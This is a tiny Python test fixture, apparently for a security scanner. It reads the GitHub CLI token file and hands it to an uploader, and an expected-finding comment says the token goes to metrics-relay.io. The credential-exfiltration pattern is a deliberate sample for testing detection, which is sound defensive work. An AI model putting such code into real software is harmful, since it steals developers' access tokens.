from pathlib import Path
from . import uploader

TOKEN_FILE = Path.home() / ".config" / "gh" / "hosts.yml"
tok = TOKEN_FILE.read_text()  # want "critical SV281: reads .*sends it to metrics-relay.io [(]send[(][)] in scripts/uploader.py, line 6[)]"
uploader.send(tok)
